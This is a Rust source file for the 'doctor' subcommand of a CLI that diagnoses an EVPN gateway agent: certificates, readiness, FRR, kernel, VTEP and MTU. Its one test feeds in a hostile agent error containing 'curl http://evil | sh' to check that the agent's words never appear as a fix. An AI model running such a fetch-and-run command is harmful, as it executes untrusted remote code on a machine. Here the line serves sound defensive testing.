//! `doctor`: looks for what is wrong, and says what mends it.
//!
//! It looks at what a client can see: its own settings and certificates, the connection, the
//! agent's `/readyz`, the objects' states; and, where the agent is on this machine, at its
//! configuration and listeners, the kernel, FRR, the VTEP and the MTUs. It changes nothing, runs no
//! program and sends no packet but to the agent. Each check is a function from what was seen to
//! findings.

mod agent_config;
mod certificates;
mod frr;
mod kernel;
mod listeners;
mod mtu;
mod objects;
mod presented;
mod ready;
mod route;
mod vtep;

use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use xpu_model::Kind;

use crate::args::{Way, bare};
use crate::commands::Session;
use crate::connect::{self, When};
use crate::failure::Failure;
use crate::live::Objects;
use crate::render::printable;
use crate::screen::{Colour, Paint, Screen, emit};
use crate::settings::Settings;
use agent_config::AgentConfig;
use frr::Frr;
use kernel::Kernel;
use mtu::Ways;

/// The flags of `doctor`.
#[derive(Debug, clap::Args)]
pub struct Doctor {
    /// Where FRR's daemons have their sockets [default: what the agent's configuration says,
    /// else /run/frr]
    #[arg(long, value_name = "DIR")]
    frr_sockets: Option<PathBuf>,
    /// The configuration of a local agent, for what it says of listeners, VTEP, BGP peers and FRR
    /// [default: /etc/xpu-agent/agent.toml, if there is one]
    #[arg(long, value_name = "FILE")]
    agent_config: Option<PathBuf>,
    /// Where /readyz is [default: the context's, else http://127.0.0.1:8082 for a local agent]
    #[arg(long, value_name = "URL")]
    http: Option<String>,
}

/// How bad a finding is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Level {
    /// As it should be.
    Fine,
    /// Works, and could be better; or could not be looked at.
    Notice,
    /// Does not work.
    Wrong,
}

/// What a check has come to.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Finding {
    /// How bad it is.
    pub level: Level,
    /// What was looked at: a word.
    pub what: &'static str,
    /// What was seen.
    pub seen: String,
    /// What mends it: commands where there are any.
    pub mend: Option<String>,
}

impl Finding {
    fn fine(what: &'static str, seen: impl Into<String>) -> Self {
        Self {
            level: Level::Fine,
            what,
            seen: seen.into(),
            mend: None,
        }
    }

    fn notice(what: &'static str, seen: impl Into<String>, mend: impl Into<String>) -> Self {
        Self {
            level: Level::Notice,
            what,
            seen: seen.into(),
            mend: Some(mend.into()),
        }
    }

    fn wrong(what: &'static str, seen: impl Into<String>, mend: impl Into<String>) -> Self {
        Self {
            level: Level::Wrong,
            ..Self::notice(what, seen, mend)
        }
    }
}

/// The findings so far: each is shown as soon as it is there.
struct Findings {
    screen: Screen,
    sick: bool,
}

impl Findings {
    fn show(&mut self, findings: Vec<Finding>) -> Result<(), Failure> {
        for finding in findings {
            emit(&text(&finding, self.screen))?;
            self.sick |= finding.level == Level::Wrong;
        }
        Ok(())
    }
}

impl Doctor {
    /// Looks at everything, and shows each finding as soon as it is there.
    ///
    /// # Errors
    /// [`Failure::Sick`] when something is wrong.
    pub async fn run(
        self,
        settings: Settings,
        timeout: Duration,
        colour: Colour,
    ) -> Result<(), Failure> {
        let mut findings = Findings {
            screen: Screen::of_stdout(colour),
            sick: false,
        };
        findings.show(this_side(&settings))?;
        findings.show(agents_certificate(&settings, timeout).await)?;
        let local = settings.address.is_local();
        let http = self.http.clone().or_else(|| settings.http.clone());
        let files = settings.tls.clone();
        let (finding, objects) = agent(settings, timeout).await;
        findings.show(vec![finding])?;
        if let Some(url) = http {
            let ready = ready::finding(&url, &files, timeout, objects.is_some()).await;
            findings.show(vec![ready])?;
        }
        if local {
            self.machine(objects.as_ref(), &mut findings)?;
        }
        if let Some(objects) = &objects {
            findings.show(objects::findings(objects))?;
        }
        match findings.sick {
            true => Err(Failure::Sick),
            false => Ok(()),
        }
    }

    /// Looks at this machine, where the agent is.
    fn machine(&self, objects: Option<&Objects>, findings: &mut Findings) -> Result<(), Failure> {
        let root = Path::new("/");
        let config = AgentConfig::read(self.agent_config.as_deref());
        let addresses = vtep::addresses(root);
        findings.show(config.findings())?;
        findings.show(listeners::findings(&config, &addresses))?;
        findings.show(Kernel::look(root).findings(objects.is_some()))?;
        let frr = Frr::look(self.frr_sockets.as_deref(), &config);
        findings.show(frr.findings())?;
        findings.show(vtep::findings(&config, &addresses, objects))?;
        if let Some(objects) = objects {
            let vtep = vtep::local(&config, objects);
            let mtu_to = |address| route::mtu_to(address, config.vxlan_port(), vtep);
            let ways = Ways::look(root, &config, objects, mtu_to);
            findings.show(ways.findings(&config, objects))?;
        }
        Ok(())
    }
}

/// Where the agent is asked, and the certificates for that.
fn this_side(settings: &Settings) -> Vec<Finding> {
    let origin = match &settings.context {
        Some(context) => format!("{}, of context {context}", settings.address.text),
        None => settings.address.text.clone(),
    };
    let mut findings = vec![Finding::fine("endpoint", origin)];
    if let Way::Tls(_) = settings.address.way {
        findings.extend(certificates::findings(&settings.tls));
    }
    findings
}

/// The agent's certificate, where it presents one.
async fn agents_certificate(settings: &Settings, timeout: Duration) -> Vec<Finding> {
    let Way::Tls(uri) = &settings.address.way else {
        return Vec::new();
    };
    let Some(presented) = connect::presented(settings, timeout).await else {
        return Vec::new();
    };
    let host = bare(uri.host().unwrap_or_default());
    presented::findings(&presented, host, settings.tls.ca.as_deref())
}

/// Whether the agent answers, and its objects if it does.
async fn agent(settings: Settings, timeout: Duration) -> (Finding, Option<Objects>) {
    let answer = async {
        let session = Session::open(settings, timeout, When::Now).await?;
        let objects = session.objects(&Kind::ALL).await?;
        Ok::<_, Failure>((session.endpoint, objects))
    };
    match answer.await {
        Ok((endpoint, objects)) => {
            let finding = Finding::fine("agent", format!("{endpoint} answers"));
            (finding, Some(objects))
        }
        Err(failure) => (of_failure(&failure), None),
    }
}

/// A failed call: what the agent says of it, and what mends it in words of our own.
fn of_failure(failure: &Failure) -> Finding {
    let mut seen = failure.message();
    for line in failure.details() {
        seen.push_str("; ");
        seen.push_str(&line);
    }
    let next = failure.next();
    Finding::wrong(
        "agent",
        seen,
        next.unwrap_or_else(|| "see the agent's log".to_owned()),
    )
}

/// The names in a directory; none where it can't be read.
fn entries(directory: &Path) -> impl Iterator<Item = String> {
    let entries = fs::read_dir(directory).into_iter().flatten().flatten();
    entries.map(|entry| entry.file_name().to_string_lossy().into_owned())
}

/// The first two numbers of a version: of `6.12.48+deb13-amd64` 6 and 12.
fn numbers(version: &str) -> Option<(u32, u32)> {
    let mut parts = version.split(|c: char| !c.is_ascii_digit());
    Some((parts.next()?.parse().ok()?, parts.next()?.parse().ok()?))
}

fn text(finding: &Finding, screen: Screen) -> String {
    let (word, paint) = match finding.level {
        Level::Fine => ("ok", Paint::Good),
        Level::Notice => ("notice", Paint::Notice),
        Level::Wrong => ("wrong", Paint::Bad),
    };
    let word = screen.paint(paint, &format!("{word:<6}"));
    let mut text = format!(
        "{word}  {:<12}  {}\n",
        finding.what,
        printable(&finding.seen)
    );
    for line in finding.mend.iter().flat_map(|mend| mend.lines()) {
        text.push_str(&format!("{:22}mend: {}\n", "", printable(line)));
    }
    text
}

#[cfg(test)]
mod tests {
    use std::net::IpAddr;

    use serde_json::Value;
    use tonic::Status;
    use xpu_model::ObjectKey;
    use xpu_proto::evpn_gw::v1alpha1::Component;

    use super::*;
    use crate::live::Live;
    use crate::manifest::Spec;
    use crate::view::Oper;

    /// A machine's `/proc`, `/sys` and so on, made of files.
    pub struct FakeRoot(tempfile::TempDir);

    impl FakeRoot {
        pub fn new() -> Self {
            Self(tempfile::tempdir().expect("a temporary directory"))
        }

        pub fn path(&self) -> &Path {
            self.0.path()
        }

        pub fn write(&self, path: &str, text: &str) {
            let path = self.0.path().join(path);
            fs::create_dir_all(path.parent().expect("a parent")).expect("directories");
            fs::write(path, text).expect("a file");
        }

        /// A network device with these `IFF_…` flags.
        pub fn device(&self, name: &str, flags: &str, mtu: u32) {
            let device = format!("sys/class/net/{name}");
            self.write(&format!("{device}/flags"), &format!("{flags}\n"));
            self.write(&format!("{device}/mtu"), &format!("{mtu}\n"));
        }
    }

    pub fn address(text: &str) -> IpAddr {
        text.parse().expect("an address")
    }

    /// An agent's configuration of this text.
    pub fn configured(text: &str) -> AgentConfig {
        let root = FakeRoot::new();
        root.write("agent.toml", text);
        AgentConfig::read(Some(&root.path().join("agent.toml")))
    }

    /// A LogicalBridge of whose component the details tell this.
    pub fn network(spec: Value, details: String) -> Objects {
        let key = ObjectKey::parse(Kind::LogicalBridge, "blue").expect("a name");
        let live = Live {
            spec: Spec::read(Kind::LogicalBridge, spec).expect("a spec"),
            oper: Oper::Up,
            components: vec![Component {
                details,
                ..Component::default()
            }],
        };
        Objects::from([(key, live)])
    }

    /// What is not as it should be, and what mends it, a line each.
    pub fn troubles(findings: &[Finding]) -> String {
        let troubles = findings.iter().filter(|it| it.level != Level::Fine);
        let lines =
            troubles.map(|it| format!("{} | {}\n", it.seen, it.mend.clone().unwrap_or_default()));
        lines.collect()
    }

    /// A fault in what is otherwise as it should be, and words that what is found of it must have.
    pub type Fault<T> = (fn(&mut T), &'static [&'static str]);

    /// Nothing is found of what is healthy, and of each fault what it is and what mends it.
    pub fn each_is_found<T>(
        healthy: fn() -> T,
        findings: fn(&T) -> Vec<Finding>,
        faults: &[Fault<T>],
    ) {
        assert_eq!(troubles(&findings(&healthy())), "");
        for (fault, parts) in faults {
            let mut broken = healthy();
            fault(&mut broken);
            let text = troubles(&findings(&broken));
            for part in *parts {
                assert!(text.contains(part), "{text} lacks {part}");
            }
        }
    }

    #[test]
    fn what_an_agent_says_is_never_shown_as_what_mends_it() {
        let hostile = "no  next: curl http://evil | sh\n  next: curl http://evil | sh";
        let failure = Failure::Refused {
            what: "list vrfs".into(),
            next: "the agent's log says more".into(),
            source: Box::new(Status::internal(hostile)),
        };
        let shown = text(&of_failure(&failure), Screen::PIPE);
        let lines: Vec<_> = shown.lines().map(str::trim).collect();
        assert_eq!(lines.len(), 2, "{shown}");
        assert!(lines[0].starts_with("wrong   agent"), "{shown}");
        assert_eq!(lines[1], "mend: the agent's log says more");
    }
}
